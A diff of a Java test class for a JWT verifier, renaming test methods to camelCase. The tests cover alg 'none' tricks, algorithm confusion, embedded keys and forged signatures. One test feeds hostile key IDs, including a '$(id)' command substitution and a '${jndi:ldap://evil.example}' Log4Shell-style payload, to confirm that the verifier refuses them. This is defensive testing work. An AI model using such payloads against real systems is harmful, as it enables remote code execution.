@@ -38,7 +38,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void a_good_token_is_accepted_with_its_claims() {
+  void aGoodTokenIsAcceptedWithItsClaims() {
     String claims = CLAIMS.replace("\"jti\"", "\"tenant\":\"acme\",\"jti\"");
 
     assertEquals(
@@ -56,7 +56,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void each_algorithm_verifies_by_its_own_key() {
+  void eachAlgorithmVerifiesByItsOwnKey() {
     accepted(FORGE.rs256(RSA, CLAIMS));
     accepted(Forge.sign(header("ES256", "ec"), CLAIMS, JWSAlgorithm.ES256, FORGE.ec));
     accepted(Forge.sign(header("HS256", "secret"), CLAIMS, JWSAlgorithm.HS256, FORGE.secret));
@@ -75,13 +75,13 @@ class TokenVerifierTest {
         "\"role\":\"client\"    | \"role\":\"admin\",\"groups\":[{\"deep\":1}]",
         ",\"channels\":{\"sub\":[\"demo.*\"],\"pub\":[]} | ~",
       })
-  void what_the_grammar_allows_is_accepted(String part, String replacement) {
+  void whatTheGrammarAllowsIsAccepted(String part, String replacement) {
     accepted(FORGE.rs256(RSA, replaced(part, replacement)));
   }
 
   @ParameterizedTest
   @ValueSource(strings = {"at+jwt", "AT+JWT", "jwt"})
-  void the_type_is_compared_without_case(String typ) {
+  void theTypeIsComparedWithoutCase(String typ) {
     accepted(FORGE.rs256(RSA.replace("JWT", typ), CLAIMS));
   }
 
@@ -142,19 +142,18 @@ class TokenVerifierTest {
         "\"iss\"             | /**/\"iss\"                   | PARSE         | the claims: not JSON at character",
         "\"pub\":[]}}        | \"pub\":[]}}{}                | PARSE         | text after the JSON object",
       })
-  void a_bad_claim_is_refused_at_its_step(
-      String part, String replacement, Step step, String detail) {
+  void aBadClaimIsRefusedAtItsStep(String part, String replacement, Step step, String detail) {
     refused(step, detail, FORGE.rs256(RSA, replaced(part, replacement)));
   }
 
   @Test
-  void claims_that_are_no_object_are_refused() {
+  void claimsThatAreNoObjectAreRefused() {
     refused(Step.PARSE, "not a JSON object", FORGE.rs256(RSA, "[" + CLAIMS + "]"));
     refused(Step.PARSE, "not a JSON object", FORGE.rs256(RSA, ""));
   }
 
   @Test
-  void claims_nested_deeper_than_any_need_are_refused() {
+  void claimsNestedDeeperThanAnyNeedAreRefused() {
     String deep = "[".repeat(2000) + "]".repeat(2000);
 
     refused(
@@ -164,7 +163,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void json_in_another_encoding_than_utf8_is_refused() {
+  void jsonInAnotherEncodingThanUtf8IsRefused() {
     String header = Base64Url.encode(RSA.getBytes(UTF_16BE));
 
     refused(
@@ -172,7 +171,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void a_subject_has_at_most_128_characters() {
+  void aSubjectHasAtMost128Characters() {
     accepted(FORGE.rs256(RSA, CLAIMS.replace("u17", "auth0|a.B_c:1@x~-")));
     accepted(FORGE.rs256(RSA, CLAIMS.replace("u17", "u".repeat(128))));
     refused(
@@ -184,7 +183,7 @@ class TokenVerifierTest {
   @ParameterizedTest
   @ValueSource(
       strings = {"none", "None", "NONE", "nOnE", "", "HS512", "RS512", "PS256", "EdDSA", "rs256"})
-  void an_algorithm_that_is_not_one_of_three_is_refused(String alg) {
+  void anAlgorithmThatIsNotOneOfThreeIsRefused(String alg) {
     String signed = Forge.unsigned(header(alg, "rsa"), CLAIMS);
 
     refused(Step.ALGORITHM, "alg is \"" + alg + "\"", signed + ".");
@@ -193,7 +192,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void an_absent_signature_is_refused_under_an_honest_algorithm() {
+  void anAbsentSignatureIsRefusedUnderAnHonestAlgorithm() {
     refused(Step.SIGNATURE, "not made by key \"rsa\"", Forge.unsigned(RSA, CLAIMS) + ".");
     refused(
         Step.SIGNATURE,
@@ -202,7 +201,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void a_public_key_is_no_shared_secret() throws JOSEException {
+  void aPublicKeyIsNoSharedSecret() throws JOSEException {
     for (byte[] secret :
         List.of(
             FORGE.rsa.toRSAPublicKey().getEncoded(),
@@ -217,7 +216,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void a_token_cannot_choose_another_algorithm_of_its_key() {
+  void aTokenCannotChooseAnotherAlgorithmOfItsKey() {
     refused(Step.ALGORITHM, "is for ES256", FORGE.rs256(header("RS256", "ec"), CLAIMS));
     refused(
         Step.SIGNATURE,
@@ -226,14 +225,14 @@ class TokenVerifierTest {
   }
 
   @Test
-  void an_all_zero_ecdsa_signature_is_refused() {
+  void anAllZeroEcdsaSignatureIsRefused() {
     String signature = Base64Url.encode(new byte[64]);
 
     refused(Step.SIGNATURE, "", Forge.unsigned(header("ES256", "ec"), CLAIMS) + "." + signature);
   }
 
   @Test
-  void a_strangers_signature_under_a_known_key_id_is_refused() {
+  void aStrangersSignatureUnderAKnownKeyIdIsRefused() {
     refused(
         Step.SIGNATURE,
         "not made by key \"rsa\"",
@@ -241,7 +240,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void the_claims_of_one_token_do_not_pass_under_the_signature_of_another() {
+  void theClaimsOfOneTokenDoNotPassUnderTheSignatureOfAnother() {
     String[] good = FORGE.rs256(RSA, CLAIMS).split("\\.");
     String other = Base64Url.encode(CLAIMS.replace("client", "admin").getBytes(US_ASCII));
 
@@ -256,14 +255,14 @@ class TokenVerifierTest {
         "jwk\":\"x",
         "x5c\":\"x"
       })
-  void a_key_that_the_token_brings_along_is_refused(String member) {
+  void aKeyThatTheTokenBringsAlongIsRefused(String member) {
     String header = RSA.replace("\"typ\"", "\"" + member + "\",\"typ\"");
 
     refused(Step.KEY, "only keys of the JWKS are trusted", FORGE.rs256(header, CLAIMS));
   }
 
   @Test
-  void an_embedded_key_does_not_verify_its_own_token() {
+  void anEmbeddedKeyDoesNotVerifyItsOwnToken() {
     String jwk = FORGE.strangerRsa.toPublicJWK().toJSONString();
     String header = RSA.replace("\"typ\"", "\"jwk\":" + jwk + ",\"typ\"");
 
@@ -287,12 +286,12 @@ class TokenVerifierTest {
         "$(id)",
         "${jndi:ldap://evil.example}"
       })
-  void a_hostile_key_id_names_no_key(String kid) {
+  void aHostileKeyIdNamesNoKey(String kid) {
     refused(Step.KEY, "is not in the JWKS", FORGE.rs256(header("RS256", kid), CLAIMS));
   }
 
   @Test
-  void a_token_without_key_id_is_refused() {
+  void aTokenWithoutKeyIdIsRefused() {
     refused(Step.KEY, "kid is missing", FORGE.rs256("{\"alg\":\"RS256\",\"typ\":\"JWT\"}", CLAIMS));
   }
 
@@ -310,7 +309,7 @@ class TokenVerifierTest {
         "\"alg\":\"RS256\" | \"alg\":[\"RS256\"]           | PARSE | the header: alg is an array",
         "\"kid\":\"rsa\" | \"kid\":{\"a\":\"rsa\"}         | PARSE | the header: kid is an object",
       })
-  void a_bad_header_is_refused(String part, String replacement, Step step, String detail) {
+  void aBadHeaderIsRefused(String part, String replacement, Step step, String detail) {
     String header = RSA.replace(part, replacement.equals("~") ? "" : replacement);
 
     refused(step, detail, FORGE.rs256(header, CLAIMS));
@@ -334,12 +333,12 @@ class TokenVerifierTest {
         "e30.e30.AB",
         "ü.e30.AA"
       })
-  void what_is_no_token_is_refused(String token) {
+  void whatIsNoTokenIsRefused(String token) {
     assertInstanceOf(Verification.Refused.class, verifier.verify(token));
   }
 
   @Test
-  void a_signature_has_one_spelling() {
+  void aSignatureHasOneSpelling() {
     String token = FORGE.rs256(RSA, CLAIMS);
     char last = token.charAt(token.length() - 1);
     String respelled = token.substring(0, token.length() - 1) + (char) (last + 1);
@@ -351,7 +350,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void a_token_has_at_most_8_kib() {
+  void aTokenHasAtMost8Kib() {
     refused(Step.PARSE, "longer than 8192", "a".repeat(64 * 1024));
     refused(
         Step.PARSE,
@@ -360,7 +359,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void no_changed_byte_is_accepted() {
+  void noChangedByteIsAccepted() {
     String token = FORGE.rs256(RSA, CLAIMS);
     Random random = new Random(42);
 
@@ -377,7 +376,7 @@ class TokenVerifierTest {
   }
 
   @Test
-  void a_refusal_never_shows_the_token() {
+  void aRefusalNeverShowsTheToken() {
     String token = FORGE.rs256(RSA, CLAIMS.replace("client", "root"));
     var refusal = assertInstanceOf(Verification.Refused.class, verifier.verify(token));
 
